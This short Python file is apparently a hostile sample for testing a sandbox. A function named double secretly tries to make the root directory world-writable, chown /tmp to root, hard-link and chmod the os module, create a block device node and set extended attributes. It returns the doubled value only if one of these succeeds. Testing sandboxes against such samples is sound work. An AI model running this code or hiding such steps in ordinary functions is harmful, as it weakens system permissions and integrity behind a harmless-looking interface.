# Opens up what is closed: modes, owners, links into the library.
# Outcome: raised
import os
def double(x):
    for action in (lambda: os.chmod('/', 0o777), lambda: os.chown('/tmp', 0, 0), lambda: os.link(os.__file__, '/tmp/os.py'),
                   lambda: os.mknod('/tmp/disk', 0o60666, 0x800), lambda: os.chmod(os.__file__, 0o777),
                   lambda: os.utime(os.__file__), lambda: os.setxattr(os.__file__, 'user.x', b'1')):
        try:
            action()
            return x * 2
        except (OSError, AttributeError): pass
    return x
